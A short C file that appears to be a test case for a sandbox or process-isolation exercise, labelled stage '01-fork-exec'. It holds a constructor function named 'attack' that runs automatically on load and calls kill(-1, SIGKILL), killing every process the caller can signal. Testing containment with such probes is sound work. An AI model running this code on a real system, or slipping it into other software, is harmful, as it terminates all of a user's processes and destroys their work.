/*
 * The classic: kill(-1, SIGKILL).
 *
 * Stage: 01-fork-exec
 * Base: starter
 * Score: 0
 */
#include <signal.h>

__attribute__((constructor)) static void attack(void)
{
	kill(-1, SIGKILL);
}
